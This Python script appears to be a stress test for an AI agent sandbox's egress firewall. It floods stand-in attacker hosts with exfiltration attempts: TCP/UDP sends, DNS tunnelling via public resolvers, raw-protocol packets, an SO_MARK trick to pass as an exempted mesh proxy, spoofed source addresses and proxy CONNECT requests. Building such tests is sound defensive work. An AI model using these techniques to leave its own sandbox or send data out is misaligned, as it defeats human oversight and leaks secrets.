"""attacker.py SECONDS [KINDS]: everything at once that should not leave, as fast as one process can, as root of an agent's namespace.

KINDS are some of ATTEMPTS and AT_THE_GATE, with commas; `all` and `gate` are all of one. Plain sockets, so that it runs wherever Python does. Prints how many attempts it made of each kind.
"""

import collections
import contextlib
import json
import os
import random
import socket
import struct
import sys
import time

EVIL4, EVIL6, RESOLVERS = "185.199.108.66", "2a0a:e5c0::66", ("8.8.8.8", "2001:4860:4860::8888")


def question(name):
    wire = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\0"
    return struct.pack("!6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + wire + struct.pack("!2H", 1, 1)


def udp(family, address, port, payload=b"secret"):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(payload, (address, port))


def tcp(family, address, port):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.2)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        s.recv(16)


def raw(kind, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, kind) as s:
        s.sendto(payload, (EVIL4, 0))


def raw6(kind, payload):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, kind) as s:
        s.sendto(payload, (EVIL6, 0))


def ping():
    raw(socket.IPPROTO_ICMP, b"\x08\x00\xf7\xff\x00\x00\x00\x00")


def marked():
    """SO_MARK with what Istio and others exempt their proxies by (klangk 2276)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", random.choice((1, 0x539, 0xFFFFFFFF))))
        s.sendto(b"secret", (EVIL4, 4433))


def spoofed():
    """From another client's address."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 36, 1, 0, 64, 17, 0, socket.inet_aton("172.20.0.8"), socket.inet_aton(EVIL4))
        s.sendto(header + struct.pack("!4H", 1000, 4433, 16, 0) + b"spoofed!", (EVIL4, 0))


ATTEMPTS = {
    "tcp4": lambda: tcp(socket.AF_INET, EVIL4, random.choice((22, 80, 443, 8080))),
    "tcp6": lambda: tcp(socket.AF_INET6, EVIL6, random.choice((22, 80, 443, 8080))),
    "udp4": lambda: udp(socket.AF_INET, EVIL4, random.choice((53, 123, 443, 853, 4433))),
    "udp6": lambda: udp(socket.AF_INET6, EVIL6, random.choice((53, 123, 443, 853, 4433))),
    "dns4": lambda: udp(socket.AF_INET, RESOLVERS[0], 53, question("c2VjcmV0.evil.test")),
    "dns6": lambda: udp(socket.AF_INET6, RESOLVERS[1], 53, question("c2VjcmV0.evil.test")),
    "ping": ping,
    "gre": lambda: raw(47, b"\0" * 16),
    "sctp": lambda: raw(132, b"\0" * 16),
    "ping6": lambda: raw6(58, b"\x80\x00\x00\x00\x00\x00\x00\x00"),
    "gre6": lambda: raw6(47, b"\0" * 16),
    "sctp6": lambda: raw6(132, b"\0" * 16),
    "mark": marked,
    "spoof": spoofed,
}


GATE4 = "172.20.0.1"


def connect_evil():
    with socket.create_connection((GATE4, 3128), 0.2) as s:
        s.sendall(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
        s.recv(16)


def request_evil():
    with socket.create_connection((GATE4, 3128), 0.2) as s:
        s.sendall(b"GET http://evil.test/secret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        s.recv(16)


# By the gateway's own listeners.
AT_THE_GATE = {
    "ask": lambda: udp(socket.AF_INET, GATE4, 53, question("c2VjcmV0.evil.test")),
    "connect": connect_evil,
    "request": request_evil,
}


def main():
    end = time.monotonic() + float(sys.argv[1])
    groups = {"all": list(ATTEMPTS), "gate": list(AT_THE_GATE)}
    attempts = {**ATTEMPTS, **AT_THE_GATE}
    only = [kind for word in (sys.argv[2] if len(sys.argv) > 2 else "all").split(",") for kind in groups.get(word, [word])]
    pause = float(os.environ.get("PAUSE", "0.002"))
    made = collections.Counter()
    while time.monotonic() < end:
        for kind in only:
            made[kind] += 1
            with contextlib.suppress(OSError):
                attempts[kind]()
        time.sleep(pause)
    print(json.dumps(made))


main()
